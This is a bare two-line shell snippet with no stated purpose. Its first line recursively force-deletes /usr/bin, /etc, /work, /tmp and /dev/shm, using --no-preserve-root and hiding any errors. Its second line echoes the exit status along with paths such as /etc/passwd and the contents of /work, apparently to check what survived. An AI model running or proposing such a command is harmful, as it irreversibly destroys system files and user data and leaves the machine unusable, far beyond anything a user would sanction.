rm -rf --no-preserve-root /usr/bin /etc /work /tmp /dev/shm 2>/dev/null
echo "$? $(echo /usr/bin/python3) $(echo /etc/passwd) $(echo /work/*)"
